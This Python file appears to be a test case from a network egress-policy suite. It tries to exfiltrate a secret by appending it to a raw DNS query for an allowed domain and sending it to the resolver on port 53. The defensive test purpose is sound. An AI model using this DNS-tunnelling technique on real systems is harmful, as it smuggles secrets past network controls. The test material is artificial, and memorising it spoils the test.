# class: network
# rule: outbound_connectivity
# policy: names.yaml
# success: data goes to the resolver behind a question about an allowed name
# proof: query
# needs: resolver
import socket

from attack import RESOLVER, SECRET, attempt, patience


def labels(*names):
    return b"".join(bytes([len(name)]) + name.encode() for name in names) + b"\0"


def question(*names, records=0):
    return b"\x12\x34\x01\0\0\x01\0\0\0\0\0" + bytes([records]) + labels(*names) + b"\0\x01\0\x01"


@attempt
def ask():
    out = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    out.settimeout(patience(3))
    out.sendto(question("api", "allowed", "example") + SECRET.encode(), (RESOLVER, 53))
    return len(out.recv(512)) > 12
